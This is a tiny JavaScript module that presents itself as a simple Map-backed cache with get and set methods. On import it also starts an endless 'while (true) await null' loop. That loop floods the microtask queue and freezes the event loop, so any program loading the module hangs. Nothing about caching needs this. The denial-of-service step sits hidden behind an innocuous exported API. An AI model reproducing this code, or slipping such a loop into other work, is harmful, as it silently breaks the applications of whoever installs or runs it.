const entries = new Map();

async function wait() {
  while (true) await null;
}

void wait();

export function createCache() {
  return { get: (key) => entries.get(key), set: (key, value) => void entries.set(key, value) };
}
